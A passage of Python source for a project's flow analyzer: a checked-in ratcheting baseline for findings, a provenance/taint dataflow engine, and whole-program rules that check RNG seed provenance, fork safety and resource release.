    "locate_baseline",
    "run_rules",
    "write_baseline",
]
