"""The ratcheting baseline for flow findings.

The flow analyzer has no inline suppression comments; the *only* escape
hatch is the checked-in baseline named by ``[tool.repro.flow]`` in
``pyproject.toml``:

    [tool.repro.flow]
    baseline = "flow-baseline.json"

Semantics, mirroring the typegate ratchet:

* a finding **not** covered by the baseline is a hard failure — new
  debt never lands;
* a baseline entry that no longer matches any finding is **stale** and
  also a hard failure — debt, once paid, may not be silently re-minted
  later under its old entry, so the file must shrink with the fix;
* ``--update-baseline`` rewrites the file from the current findings,
  which CI's baseline-shrink check then requires to be no larger than
  the one on the main branch.

Entries are fingerprinted as ``(rule, path, symbol)`` with a count —
deliberately line-insensitive so unrelated edits shifting a file do not
churn the baseline.
"""

from __future__ import annotations

import json
from collections import Counter
from dataclasses import dataclass
from pathlib import Path
from typing import Iterable, Sequence

from repro.devtools.flow.rules import FlowFinding

try:  # python >= 3.11
    import tomllib
except ModuleNotFoundError:  # pragma: no cover - 3.10 fallback
    tomllib = None  # type: ignore[assignment]

BASELINE_SCHEMA_VERSION = 1

#: Used when pyproject.toml is missing or carries no flow table.
DEFAULT_BASELINE_NAME = "flow-baseline.json"


def locate_baseline(pyproject: "Path | None" = None) -> "Path | None":
    """Resolve the baseline path from ``[tool.repro.flow]``.

    Searches upward from the cwd when no explicit pyproject is given;
    the configured (or default) baseline name resolves relative to the
    pyproject's directory.  Returns ``None`` when no pyproject exists,
    in which case the analyzer runs baseline-free (every finding is a
    failure).
    """
    candidates: "list[Path]"
    if pyproject is not None:
        candidates = [pyproject]
    else:
        here = Path.cwd().resolve()
        candidates = [parent / "pyproject.toml" for parent in (here, *here.parents)]
    for candidate in candidates:
        if not candidate.is_file():
            continue
        name = DEFAULT_BASELINE_NAME
        if tomllib is not None:
            try:
                with candidate.open("rb") as fh:
                    data = tomllib.load(fh)
            except (OSError, tomllib.TOMLDecodeError):
                return candidate.parent / name
            table = data.get("tool", {}).get("repro", {}).get("flow", {})
            configured = table.get("baseline")
            if isinstance(configured, str) and configured:
                name = configured
        return candidate.parent / name
    return None


@dataclass(frozen=True)
class BaselineDelta:
    """Comparison of current findings against the checked-in baseline."""

    #: Findings fully covered by baseline entries.
    matched: "tuple[FlowFinding, ...]"
    #: Findings not covered — hard failures.
    new: "tuple[FlowFinding, ...]"
    #: Baseline entries (rule, path, symbol) with no matching finding —
    #: the baseline must shrink with the fix, so these also fail.
    stale: "tuple[tuple[str, str, str], ...]"

    @property
    def ok(self) -> bool:
        return not self.new and not self.stale


def normalize_path(path: str, root: "Path | None") -> str:
    """Repo-root-relative posix path when possible, verbatim otherwise."""
    candidate = Path(path)
    if root is not None:
        try:
            candidate = candidate.resolve().relative_to(root.resolve())
        except (OSError, ValueError):
            pass
    return candidate.as_posix()


def normalized_fingerprint(
    finding: FlowFinding, root: "Path | None"
) -> "tuple[str, str, str]":
    rule, path, symbol = finding.fingerprint()
    return (rule, normalize_path(path, root), symbol)


def load_baseline(path: "Path | None") -> "Counter[tuple[str, str, str]]":
    """Baseline file -> allowed-count per fingerprint (empty if absent)."""
    allowed: "Counter[tuple[str, str, str]]" = Counter()
    if path is None or not path.is_file():
        return allowed
    try:
        data = json.loads(path.read_text(encoding="utf-8"))
    except (OSError, json.JSONDecodeError) as exc:
        raise ValueError(f"unreadable flow baseline {path}: {exc}") from exc
    if data.get("schema_version") != BASELINE_SCHEMA_VERSION:
        raise ValueError(
            f"flow baseline {path} has schema_version "
            f"{data.get('schema_version')!r}; expected {BASELINE_SCHEMA_VERSION}"
        )
    for entry in data.get("entries", []):
        key = (str(entry["rule"]), str(entry["path"]), str(entry["symbol"]))
        allowed[key] += int(entry.get("count", 1))
    return allowed


def compare(
    findings: "Sequence[FlowFinding]",
    allowed: "Counter[tuple[str, str, str]]",
    *,
    root: "Path | None" = None,
) -> BaselineDelta:
    """Split findings into matched/new and report stale entries."""
    remaining = Counter(allowed)
    matched: "list[FlowFinding]" = []
    new: "list[FlowFinding]" = []
    for finding in findings:
        key = normalized_fingerprint(finding, root)
        if remaining[key] > 0:
            remaining[key] -= 1
            matched.append(finding)
        else:
            new.append(finding)
    stale = tuple(sorted(key for key, count in remaining.items() if count > 0))
    return BaselineDelta(matched=tuple(matched), new=tuple(new), stale=stale)


def render_baseline(
    findings: "Iterable[FlowFinding]", *, root: "Path | None" = None
) -> str:
    """Serialize findings as a baseline document (sorted, stable)."""
    counts: "Counter[tuple[str, str, str]]" = Counter(
        normalized_fingerprint(finding, root) for finding in findings
    )
    entries = [
        {"rule": rule, "path": path, "symbol": symbol, "count": count}
        for (rule, path, symbol), count in sorted(counts.items())
    ]
    return json.dumps(
        {"schema_version": BASELINE_SCHEMA_VERSION, "entries": entries},
        indent=2,
        sort_keys=True,
    ) + "\n"


def write_baseline(
    findings: "Iterable[FlowFinding]", path: Path, *, root: "Path | None" = None
) -> None:
    path.write_text(render_baseline(findings, root=root), encoding="utf-8")


__all__ = [
    "BASELINE_SCHEMA_VERSION",
    "DEFAULT_BASELINE_NAME",
    "BaselineDelta",
    "compare",
    "load_baseline",
    "locate_baseline",
    "normalized_fingerprint",
    "render_baseline",
    "write_baseline",
]
