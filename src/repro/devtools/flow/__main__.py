"""Entry point for ``python -m repro.devtools.flow``."""

from repro.devtools.flow.cli import main

if __name__ == "__main__":
    raise SystemExit(main())
