"""Interprocedural dataflow over the project graph.

Two engines live here, both deliberately small:

* a **provenance lattice** with a per-expression classifier.  Every
  expression is abstracted to one of four values — ``SEEDED`` (derives
  from an explicit seed parameter, a ``*seed*``-named binding, or a
  ``mix(...)`` derivation), ``CONST`` (a literal with no seed in its
  history), ``PARAM`` (flows unchanged from one or more named
  parameters of the enclosing function — the interprocedural handoff),
  and ``UNKNOWN`` (anything the classifier refuses to guess about).
  The join is pessimistic-for-CONST: mixing a constant with a seeded
  value stays seeded, mixing it with an unknown becomes unknown, so
  only a *provably* constant expression can ever raise SEED001.

* a **backward parameter-taint solver**: given "parameter ``p`` of
  function ``f`` must be seed-derived", walk every caller, classify
  the argument bound to ``p``, report the ``CONST`` ones with their
  call chain, and recurse through the ``PARAM`` ones.  A visited set
  on ``(function, parameter)`` makes recursion through call-graph
  cycles terminate.

A forward reachability closure (:func:`reachable_from`) supports scope
gating: SEED001 only fires on code that can run on a path into the
scanner/topology/net packages.
"""

from __future__ import annotations

import ast
import re
from dataclasses import dataclass, field
from typing import Callable, Iterable

from repro.devtools.flow.graph import MODULE_BODY, FunctionInfo, ProjectGraph

#: Names that *carry seed provenance by convention*: ``seed``, ``seeds``,
#: ``shuffle_seed``, ``seed_material`` — any identifier with a ``seed``
#: word-segment.  The repo threads determinism through exactly this
#: naming discipline, so the lattice trusts it.
_SEEDISH = re.compile(r"(?:^|_)seeds?(?:$|_)")

#: Pure integer-shaped builtins through which provenance passes.
_TRANSPARENT_CALLS = frozenset(
    {"int", "abs", "ord", "hash", "len", "min", "max", "sum", "zlib.crc32"}
)


def is_seedish(name: str) -> bool:
    """True when a binding name carries seed provenance by convention."""
    return _SEEDISH.search(name.lower()) is not None


@dataclass(frozen=True)
class Provenance:
    """One point in the lattice; ``params`` only populated for PARAM."""

    seeded: bool = False
    const: bool = False
    unknown: bool = False
    params: "frozenset[str]" = frozenset()

    @property
    def kind(self) -> str:
        if self.seeded:
            return "SEEDED"
        if self.unknown:
            return "UNKNOWN"
        if self.params:
            return "PARAM"
        return "CONST"


SEEDED = Provenance(seeded=True)
CONST = Provenance(const=True)
UNKNOWN = Provenance(unknown=True)


def param(name: str) -> Provenance:
    return Provenance(params=frozenset({name}))


def join(values: "Iterable[Provenance]") -> Provenance:
    """Lattice join: seeded wins, then unknown, then params, then const."""
    seeded = const = unknown = False
    params: "set[str]" = set()
    for value in values:
        seeded = seeded or value.seeded
        const = const or value.const
        unknown = unknown or value.unknown
        params.update(value.params)
    if seeded:
        return SEEDED
    if unknown:
        return UNKNOWN
    if params:
        return Provenance(params=frozenset(params))
    return CONST


class ExpressionClassifier:
    """Classify expressions inside one function against the lattice."""

    def __init__(self, graph: ProjectGraph, fn: FunctionInfo) -> None:
        self._graph = graph
        self._fn = fn
        self._assignments = self._collect_assignments(fn)

    @staticmethod
    def _collect_assignments(fn: FunctionInfo) -> "dict[str, list[ast.expr]]":
        table: "dict[str, list[ast.expr]]" = {}
        for node in ast.walk(fn.node):  # type: ignore[arg-type]
            if isinstance(node, ast.Assign):
                for target in node.targets:
                    if isinstance(target, ast.Name):
                        table.setdefault(target.id, []).append(node.value)
            elif isinstance(node, ast.AnnAssign) and node.value is not None:
                if isinstance(node.target, ast.Name):
                    table.setdefault(node.target.id, []).append(node.value)
            elif isinstance(node, ast.AugAssign):
                if isinstance(node.target, ast.Name):
                    table.setdefault(node.target.id, []).append(node.value)
        return table

    def classify(self, expr: ast.expr, _depth: int = 0) -> Provenance:
        if _depth > 12:
            return UNKNOWN
        if isinstance(expr, ast.Constant):
            return CONST
        if isinstance(expr, ast.Name):
            return self._classify_name(expr.id, _depth)
        if isinstance(expr, ast.Attribute):
            # ``self.seed``, ``config.shuffle_seed`` — a seed-suffixed
            # attribute is seeded by the naming discipline; anything
            # else reaching through an object is beyond this lattice.
            return SEEDED if is_seedish(expr.attr) else UNKNOWN
        if isinstance(expr, ast.BinOp):
            return join(
                (self.classify(expr.left, _depth + 1),
                 self.classify(expr.right, _depth + 1))
            )
        if isinstance(expr, ast.UnaryOp):
            return self.classify(expr.operand, _depth + 1)
        if isinstance(expr, ast.IfExp):
            return join(
                (self.classify(expr.body, _depth + 1),
                 self.classify(expr.orelse, _depth + 1))
            )
        if isinstance(expr, ast.Call):
            return self._classify_call(expr, _depth)
        if isinstance(expr, (ast.Tuple, ast.List)):
            return join(self.classify(e, _depth + 1) for e in expr.elts)
        if isinstance(expr, ast.Starred):
            return self.classify(expr.value, _depth + 1)
        return UNKNOWN

    def _classify_name(self, name: str, depth: int) -> Provenance:
        if name in self._fn.params:
            # Even a parameter *named* ``seed`` is only as good as what
            # callers pass into it — PARAM hands the question to the
            # interprocedural solver instead of trusting the name.
            return param(name)
        if is_seedish(name):
            return SEEDED
        bindings = self._assignments.get(name)
        if bindings:
            # Join over every assignment to the name; self-referential
            # bindings (``x = x + 1``) terminate via the depth guard.
            return join(self.classify(value, depth + 1) for value in bindings)
        return UNKNOWN

    def _classify_call(self, call: ast.Call, depth: int) -> Provenance:
        resolved = self._graph.resolve_call_target(self._fn, call)
        target = resolved[0] if resolved else None
        tail = target.rsplit(".", 1)[-1] if target else ""
        if tail == "mix" or (target and target.endswith(".mix")):
            # ``mix(seed, *parts)`` confers provenance iff any ingredient
            # already has it.
            return join(self.classify(arg, depth + 1) for arg in call.args)
        if target in _TRANSPARENT_CALLS or tail in ("crc32", "int", "abs", "ord"):
            joined = join(self.classify(arg, depth + 1) for arg in call.args)
            return joined if call.args else CONST
        return UNKNOWN


@dataclass(frozen=True)
class TaintViolation:
    """A constant reached a seed-demanding sink through ``chain``."""

    function: str
    parameter: str
    line: int
    col: int
    #: Qualnames from the offending call site down to the sink.
    chain: "tuple[str, ...]"


@dataclass
class ParamTaintSolver:
    """Backward must-be-seeded propagation over the call graph."""

    graph: ProjectGraph
    _visited: "set[tuple[str, str]]" = field(default_factory=set)

    def solve(
        self,
        function: FunctionInfo,
        parameter: str,
        chain: "tuple[str, ...]",
        *,
        in_scope: "Callable[[str], bool]",
    ) -> "list[TaintViolation]":
        """Demand that ``parameter`` of ``function`` is seed-derived.

        Walks every caller: a ``CONST`` argument in scope is a
        violation, a ``PARAM`` argument pushes the demand one frame up,
        ``SEEDED``/``UNKNOWN`` arguments discharge it.
        """
        key = (function.qualname, parameter)
        if key in self._visited:
            return []
        self._visited.add(key)
        violations: "list[TaintViolation]" = []
        for site in self.graph.callers_of(function.qualname):
            caller = self.graph.functions.get(site.caller)
            if caller is None or site.dynamic:
                continue
            bound = self.graph.bind_arguments(function, site.node)
            argument = bound.get(parameter)
            if argument is None:
                argument = function.defaults.get(parameter)
                if argument is None:
                    continue  # *args/**kwargs forwarding: stay quiet
            classifier = ExpressionClassifier(self.graph, caller)
            verdict = classifier.classify(argument)
            next_chain = (site.caller,) + chain
            if verdict.kind == "CONST":
                if in_scope(site.caller):
                    violations.append(
                        TaintViolation(
                            function=site.caller,
                            parameter=parameter,
                            line=site.node.lineno,
                            col=site.node.col_offset,
                            chain=next_chain,
                        )
                    )
            elif verdict.kind == "PARAM":
                for upstream in sorted(verdict.params):
                    violations.extend(
                        self.solve(
                            caller, upstream, next_chain, in_scope=in_scope
                        )
                    )
        return violations


def reachable_from(graph: ProjectGraph, roots: "Iterable[str]") -> "set[str]":
    """Forward closure: every function reachable from ``roots`` edges."""
    seen: "set[str]" = set()
    frontier = [root for root in roots if root in graph.functions]
    while frontier:
        current = frontier.pop()
        if current in seen:
            continue
        seen.add(current)
        for site in graph.callees_of(current):
            callee = site.callee
            if callee in graph.classes:
                init = graph.init_of(callee)
                if init is not None:
                    callee = init.qualname
            if callee in graph.functions and callee not in seen:
                frontier.append(callee)
    return seen


def scope_predicate(
    graph: ProjectGraph, packages: "tuple[str, ...]"
) -> "Callable[[str], bool]":
    """``in_scope(qualname)``: defined in, or reachable from, ``packages``.

    A helper in ``repro.util`` is in scope exactly when some function or
    module body inside the scoped packages can reach it — that is the
    "anywhere on a path into scanner/topology/net" condition.
    """
    roots = [
        qualname
        for qualname, fn in graph.functions.items()
        if any(
            fn.module == pkg or fn.module.startswith(pkg + ".")
            for pkg in packages
        )
    ]
    closure = reachable_from(graph, roots)

    def in_scope(qualname: str) -> bool:
        fn = graph.functions.get(qualname)
        if fn is None:
            return False
        if any(
            fn.module == pkg or fn.module.startswith(pkg + ".")
            for pkg in packages
        ):
            return True
        return qualname in closure

    return in_scope


__all__ = [
    "CONST",
    "SEEDED",
    "UNKNOWN",
    "ExpressionClassifier",
    "ParamTaintSolver",
    "Provenance",
    "TaintViolation",
    "is_seedish",
    "join",
    "param",
    "reachable_from",
    "scope_predicate",
]
