"""The three flow rule families: SEED001, FORK001, RES001.

Unlike the per-file lint rules, each of these walks the whole
:class:`~repro.devtools.flow.graph.ProjectGraph`:

* **SEED001** — seed-provenance taint.  Every ``random.Random(...)``
  and ``mix(...)`` stream on a path into ``repro.scanner`` /
  ``repro.topology`` / ``repro.net`` must trace back to an explicit
  seed parameter or a ``(seed, slot)`` derivation.  A provably-constant
  seed is flagged where the constant enters, with the full call chain
  down to the RNG; the no-argument form is DET001's business and is
  deliberately not re-reported here.

* **FORK001** — fork/IPC safety.  Values captured into ``WorkerPool``
  runners (and anything they transitively construct, ``self`` of the
  constructing campaign included) must be free of open handles,
  ``threading`` locks, and references to mutable module globals: all
  three either break under copy-on-write fork semantics or silently
  fork shared state.  Arguments handed to the ``repro.scanner.wire``
  codec get the same shallow audit.

* **RES001** — resource lifecycle.  Handles (``open``, sockets,
  multiprocessing queues/pools, temp files) and project resource
  classes (anything whose ``__init__`` acquires such a handle into an
  attribute) must be released on every path: locals never released,
  locals released only on the fall-through path, constructors that can
  raise after acquiring, and resource attributes no method ever
  releases are each distinct findings.

Findings do not support inline suppression comments — the ratcheting
baseline (:mod:`repro.devtools.flow.baseline`) is the only escape
hatch, and it may only shrink.
"""

from __future__ import annotations

import ast
from dataclasses import dataclass, field
from typing import Callable, Iterator, Sequence

from repro.devtools.flow.dataflow import (
    ExpressionClassifier,
    ParamTaintSolver,
    join,
    scope_predicate,
)
from repro.devtools.flow.graph import (
    MODULE_BODY,
    ClassInfo,
    FunctionInfo,
    ProjectGraph,
)
from repro.devtools.lint.rules import dotted_name

#: Packages whose reachable code demands threaded seeds (SEED001 scope).
SEED_SCOPE: "tuple[str, ...]" = ("repro.scanner", "repro.topology", "repro.net")

#: Fully qualified callables whose *result* is an acquired resource.
_ACQUIRING_CALLS = frozenset(
    {
        "open",
        "socket.socket",
        "socket.create_connection",
        "tempfile.TemporaryFile",
        "tempfile.NamedTemporaryFile",
        "tempfile.mkstemp",
    }
)

#: Attribute tails that acquire regardless of the receiver: a
#: ``.open(...)``, ``.SimpleQueue()``, ``.Pool()`` on anything.
_ACQUIRING_TAILS = frozenset({"open", "SimpleQueue", "Pool", "Queue", "JoinableQueue"})

#: Receiver tails that make ``.open`` / ``.Queue`` style calls benign —
#: archives and in-process queue modules are not leaked OS handles.
_BENIGN_TAIL_RECEIVERS = frozenset({"queue", "gzip", "tarfile", "zipfile"})

#: Method names accepted as releasing a resource.
_RELEASE_METHODS = frozenset(
    {"close", "terminate", "shutdown", "release", "stop", "cancel", "__exit__"}
)

#: Constructors whose instances must never cross a fork boundary.
_LOCK_LIKE = frozenset(
    {
        "threading.Lock",
        "threading.RLock",
        "threading.Condition",
        "threading.Event",
        "threading.Semaphore",
        "threading.BoundedSemaphore",
    }
)

#: Wire-codec entry points whose payloads FORK001 audits.
_WIRE_FUNCTIONS = ("repro.scanner.wire.encode_observations",)

#: Transitive-audit depth for FORK001 captured object graphs.
_CAPTURE_DEPTH = 4


@dataclass(frozen=True)
class FlowFinding:
    """One analyzer finding, position-resolved to a source location."""

    rule: str
    path: str
    line: int
    col: int
    symbol: str
    message: str
    #: Call chain (outermost first) for interprocedural findings.
    chain: "tuple[str, ...]" = ()

    def fingerprint(self) -> "tuple[str, str, str]":
        """Line-insensitive identity used by the ratcheting baseline."""
        return (self.rule, self.path, self.symbol)


FLOW_RULES: "dict[str, str]" = {
    "SEED001": "RNG streams on scanner/topology/net paths must derive from "
    "an explicit seed parameter or (seed, slot) derivation",
    "FORK001": "state captured into WorkerPool runners or the wire codec "
    "must be free of handles, locks, and mutable module globals",
    "RES001": "acquired resources must be released on all paths, "
    "exceptional ones included",
}


def _assignment_pairs(
    stmt: ast.stmt,
) -> "Iterator[tuple[ast.expr, ast.expr]]":
    """``(target, value)`` pairs for plain and annotated assignments."""
    if isinstance(stmt, ast.Assign):
        for target in stmt.targets:
            yield target, stmt.value
    elif isinstance(stmt, ast.AnnAssign) and stmt.value is not None:
        yield stmt.target, stmt.value


def _self_attr(target: ast.expr) -> "str | None":
    if (
        isinstance(target, ast.Attribute)
        and isinstance(target.value, ast.Name)
        and target.value.id == "self"
    ):
        return target.attr
    return None


def _finding(
    graph: ProjectGraph,
    rule: str,
    fn: FunctionInfo,
    node: ast.AST,
    message: str,
    chain: "tuple[str, ...]" = (),
) -> FlowFinding:
    module = graph.modules.get(fn.module)
    return FlowFinding(
        rule=rule,
        path=module.path if module is not None else "<unknown>",
        line=getattr(node, "lineno", fn.line()),
        col=getattr(node, "col_offset", 0),
        symbol=fn.qualname,
        message=message,
        chain=chain,
    )


def _iter_functions(graph: ProjectGraph) -> "Iterator[FunctionInfo]":
    yield from graph.functions.values()


# ---------------------------------------------------------------------------
# SEED001 — seed-provenance taint
# ---------------------------------------------------------------------------


def _seed_expression(call: ast.Call) -> "ast.expr | None":
    if call.args:
        return call.args[0]
    for keyword in call.keywords:
        if keyword.arg in ("x", "seed"):
            return keyword.value
    return None


def check_seed_provenance(graph: ProjectGraph) -> "list[FlowFinding]":
    in_scope = scope_predicate(graph, SEED_SCOPE)
    findings: "list[FlowFinding]" = []
    solver = ParamTaintSolver(graph)
    for fn in _iter_functions(graph):
        sites = graph.callees_of(fn.qualname)
        # A ``mix(...)`` feeding directly into a Random call is covered
        # by the Random site's classification; don't report it twice.
        absorbed: "set[int]" = set()
        for site in sites:
            if site.callee in ("random.Random", "numpy.random.default_rng"):
                for nested in ast.walk(site.node):
                    if isinstance(nested, ast.Call) and nested is not site.node:
                        absorbed.add(id(nested))
        for site in sites:
            target = site.callee
            is_random = target in ("random.Random", "numpy.random.default_rng")
            is_mix = target.endswith(".mix") and target in graph.functions
            if not (is_random or is_mix):
                continue
            if is_random:
                seed_expr = _seed_expression(site.node)
                if seed_expr is None:
                    continue  # unseeded form: DET001 territory
                verdict = ExpressionClassifier(graph, fn).classify(seed_expr)
            else:
                if not site.node.args or id(site.node) in absorbed:
                    continue
                classifier = ExpressionClassifier(graph, fn)
                verdict = join(
                    classifier.classify(arg) for arg in site.node.args
                )
            what = target.rsplit(".", 1)[-1]
            if verdict.kind == "CONST":
                if in_scope(fn.qualname):
                    findings.append(
                        _finding(
                            graph,
                            "SEED001",
                            fn,
                            site.node,
                            f"{what}(...) seeded from a constant with no "
                            f"seed-parameter provenance; thread the campaign "
                            f"seed (or a mix(seed, slot) derivation) instead",
                            chain=(fn.qualname,),
                        )
                    )
            elif verdict.kind == "PARAM":
                for parameter in sorted(verdict.params):
                    for violation in solver.solve(
                        fn, parameter, (fn.qualname,), in_scope=in_scope
                    ):
                        offender = graph.functions.get(violation.function)
                        if offender is None:
                            continue
                        findings.append(
                            _finding(
                                graph,
                                "SEED001",
                                offender,
                                _at(violation.line, violation.col),
                                f"constant flows into parameter "
                                f"'{violation.parameter}' and reaches "
                                f"{what}(...) via "
                                f"{' -> '.join(violation.chain)}; derive it "
                                f"from an explicit seed",
                                chain=violation.chain,
                            )
                        )
    return findings


def _at(line: int, col: int) -> ast.AST:
    marker = ast.Pass()
    marker.lineno = line
    marker.col_offset = col
    return marker


# ---------------------------------------------------------------------------
# FORK001 — fork/IPC capture safety
# ---------------------------------------------------------------------------


def _is_acquiring_call(graph: ProjectGraph, fn: FunctionInfo, call: ast.Call) -> bool:
    resolved = graph.resolve_call_target(fn, call)
    if resolved is None or resolved[1]:
        # Unresolved or dynamic-attr receiver: fall back to the spelled
        # name — ``anything.open(...)`` acquires unless the receiver is
        # a known-benign module.
        name = dotted_name(call.func)
        if name is None:
            return False
        parts = name.split(".")
        if len(parts) >= 2 and parts[-1] in _ACQUIRING_TAILS:
            return parts[-2] not in _BENIGN_TAIL_RECEIVERS
        return False
    target = resolved[0]
    if target in _ACQUIRING_CALLS:
        return True
    head, _, tail = target.rpartition(".")
    if tail in _ACQUIRING_TAILS and target not in graph.functions:
        return head.rsplit(".", 1)[-1] not in _BENIGN_TAIL_RECEIVERS
    return False


def _is_lock_like(graph: ProjectGraph, fn: FunctionInfo, call: ast.Call) -> bool:
    resolved = graph.resolve_call_target(fn, call)
    return resolved is not None and not resolved[1] and resolved[0] in _LOCK_LIKE


@dataclass
class _CaptureAuditor:
    """Transitively audit state captured into a fork-crossing object."""

    graph: ProjectGraph
    findings: "list[FlowFinding]"
    _visited: "set[str]" = field(default_factory=set)

    def audit_class(
        self, cls_info: ClassInfo, chain: "tuple[str, ...]", depth: int
    ) -> None:
        if depth > _CAPTURE_DEPTH or cls_info.qualname in self._visited:
            return
        self._visited.add(cls_info.qualname)
        init = self.graph.init_of(cls_info.qualname)
        if init is None:
            return
        for stmt in ast.walk(init.node):  # type: ignore[arg-type]
            for target, value in _assignment_pairs(stmt):
                attr = _self_attr(target)
                if attr is None:
                    continue
                self.audit_value(
                    value,
                    init,
                    chain + (f"{cls_info.qualname}.{attr}",),
                    depth,
                    attr=attr,
                )

    def audit_value(
        self,
        expr: ast.expr,
        fn: FunctionInfo,
        chain: "tuple[str, ...]",
        depth: int,
        *,
        attr: "str | None" = None,
    ) -> None:
        where = f"attribute '{attr}'" if attr else "captured value"
        if isinstance(expr, ast.Call):
            if _is_lock_like(self.graph, fn, expr):
                self._flag(fn, expr, chain, f"{where} holds a threading lock")
                return
            if _is_acquiring_call(self.graph, fn, expr):
                self._flag(fn, expr, chain, f"{where} holds an open handle")
                return
            resolved = self.graph.resolve_call_target(fn, expr)
            if resolved is not None and not resolved[1]:
                cls_info = self.graph.classes.get(resolved[0])
                if cls_info is not None:
                    self.audit_class(cls_info, chain, depth + 1)
                    self._audit_constructor_args(expr, fn, cls_info, chain, depth)
            return
        if isinstance(expr, ast.Name):
            module = self.graph.modules.get(fn.module)
            if module is not None and expr.id in module.mutable_globals:
                self._flag(
                    fn,
                    expr,
                    chain,
                    f"{where} references mutable module global '{expr.id}'",
                )
            elif expr.id == "self" and fn.class_name is not None:
                owner = self.graph.classes.get(f"{fn.module}.{fn.class_name}")
                if owner is not None:
                    self.audit_class(owner, chain + (owner.qualname,), depth + 1)
            return
        if isinstance(expr, (ast.Tuple, ast.List, ast.Set)):
            for element in expr.elts:
                self.audit_value(element, fn, chain, depth, attr=attr)
        elif isinstance(expr, ast.Dict):
            for value in expr.values:
                if value is not None:
                    self.audit_value(value, fn, chain, depth, attr=attr)

    def _audit_constructor_args(
        self,
        call: ast.Call,
        fn: FunctionInfo,
        cls_info: ClassInfo,
        chain: "tuple[str, ...]",
        depth: int,
    ) -> None:
        for argument in list(call.args) + [
            kw.value for kw in call.keywords if kw.arg is not None
        ]:
            self.audit_value(
                argument, fn, chain + (cls_info.qualname,), depth + 1
            )

    def _flag(
        self,
        fn: FunctionInfo,
        node: ast.AST,
        chain: "tuple[str, ...]",
        message: str,
    ) -> None:
        self.findings.append(
            _finding(
                self.graph,
                "FORK001",
                fn,
                node,
                # The capture chain is carried structurally (and shown
                # by the reporters); keeping it out of the message lets
                # the same defect found via two pool sites deduplicate.
                f"{message}; it crosses the fork/IPC boundary and will "
                f"not survive it",
                chain=chain,
            )
        )


def check_fork_safety(graph: ProjectGraph) -> "list[FlowFinding]":
    findings: "list[FlowFinding]" = []
    pool_class = graph.resolve_class("repro.scanner.pool.WorkerPool")
    pool_targets = {"repro.scanner.pool.WorkerPool"}
    if pool_class is not None:
        pool_targets.add(pool_class.qualname)
    for fn in _iter_functions(graph):
        for site in graph.callees_of(fn.qualname):
            if site.callee in pool_targets and not site.dynamic:
                runner_expr: "ast.expr | None" = None
                for keyword in site.node.keywords:
                    if keyword.arg == "runner":
                        runner_expr = keyword.value
                if runner_expr is None and site.node.args:
                    runner_expr = site.node.args[0]
                if runner_expr is None:
                    continue
                auditor = _CaptureAuditor(graph, findings)
                auditor.audit_value(
                    runner_expr, fn, (fn.qualname, "WorkerPool(runner=...)"), 0
                )
            elif site.callee in _WIRE_FUNCTIONS and not site.dynamic:
                auditor = _CaptureAuditor(graph, findings)
                for argument in site.node.args:
                    auditor.audit_value(
                        argument, fn, (fn.qualname, "wire codec"), 0
                    )
    return findings


# ---------------------------------------------------------------------------
# RES001 — resource lifecycle
# ---------------------------------------------------------------------------


def resource_classes(graph: ProjectGraph) -> "dict[str, list[str]]":
    """Class qualname -> attributes its ``__init__`` acquires directly."""
    table: "dict[str, list[str]]" = {}
    for cls_info in graph.classes.values():
        init = cls_info.methods.get("__init__")
        if init is None:
            continue
        acquired: "list[str]" = []
        for stmt in ast.walk(init.node):  # type: ignore[arg-type]
            for target, value in _assignment_pairs(stmt):
                if not isinstance(value, ast.Call):
                    continue
                if not _is_acquiring_call(graph, init, value):
                    continue
                attr = _self_attr(target)
                if attr is not None and attr not in acquired:
                    acquired.append(attr)
        if acquired:
            table[cls_info.qualname] = acquired
    return table


def _release_sites(
    body: "Sequence[ast.stmt]", names: "set[str]"
) -> "list[tuple[ast.Call, bool]]":
    """``(call, in_finally_or_with)`` for every release of ``names``."""
    sites: "list[tuple[ast.Call, bool]]" = []

    def visit(stmts: "Sequence[ast.stmt]", protected: bool) -> None:
        for stmt in stmts:
            if isinstance(stmt, ast.Try):
                visit(stmt.body, protected)
                for handler in stmt.handlers:
                    visit(handler.body, True)
                visit(stmt.orelse, protected)
                visit(stmt.finalbody, True)
                continue
            if isinstance(stmt, (ast.With, ast.AsyncWith)):
                visit(stmt.body, protected)
            for node in ast.walk(stmt):
                if (
                    isinstance(node, ast.Call)
                    and isinstance(node.func, ast.Attribute)
                    and node.func.attr in _RELEASE_METHODS
                    and isinstance(node.func.value, ast.Name)
                    and node.func.value.id in names
                ):
                    sites.append((node, protected))
            for child_body in _nested_bodies(stmt):
                visit(child_body, protected)

    visit(body, False)
    return sites


def _nested_bodies(stmt: ast.stmt) -> "Iterator[Sequence[ast.stmt]]":
    if isinstance(stmt, (ast.If, ast.For, ast.AsyncFor, ast.While)):
        yield stmt.body
        yield stmt.orelse
    elif isinstance(stmt, ast.Match):
        for case in stmt.cases:
            yield case.body


def _escapes(fn: FunctionInfo, name: str) -> bool:
    """True when ``name`` outlives the function: returned, yielded,
    stored into an attribute/container, aliased, or handed to a call
    other than its own release."""
    for node in ast.walk(fn.node):  # type: ignore[arg-type]
        if isinstance(node, (ast.Return, ast.Yield, ast.YieldFrom)):
            value = node.value
            if value is not None and _mentions(value, name):
                return True
        elif isinstance(node, ast.Assign):
            if _mentions(node.value, name):
                for target in node.targets:
                    if not isinstance(target, ast.Name):
                        return True  # self.x = h, d[k] = h
                    if target.id != name:
                        return True  # alias: other = h
        elif isinstance(node, ast.Call):
            if (
                isinstance(node.func, ast.Attribute)
                and isinstance(node.func.value, ast.Name)
                and node.func.value.id == name
            ):
                continue  # h.write(...), h.close(...)
            for argument in list(node.args) + [kw.value for kw in node.keywords]:
                if _mentions(argument, name):
                    return True
    return False


def _mentions(expr: ast.expr, name: str) -> bool:
    return any(
        isinstance(node, ast.Name)
        and node.id == name
        and isinstance(node.ctx, ast.Load)
        for node in ast.walk(expr)
    )


def _with_bound_names(fn: FunctionInfo) -> "set[int]":
    """ids() of acquisition calls used as ``with`` context expressions."""
    managed: "set[int]" = set()
    for node in ast.walk(fn.node):  # type: ignore[arg-type]
        if isinstance(node, (ast.With, ast.AsyncWith)):
            for item in node.items:
                for call in ast.walk(item.context_expr):
                    if isinstance(call, ast.Call):
                        managed.add(id(call))
    return managed


def _risky_statements_after(
    body: "Sequence[ast.stmt]", marker: ast.stmt
) -> "list[ast.stmt]":
    """Statements after ``marker`` (same block) that can raise: any
    containing a call, a raise, or an assert."""
    try:
        index = body.index(marker)
    except ValueError:
        return []
    risky: "list[ast.stmt]" = []
    for stmt in body[index + 1:]:
        for node in ast.walk(stmt):
            if isinstance(node, (ast.Call, ast.Raise, ast.Assert)):
                risky.append(stmt)
                break
    return risky


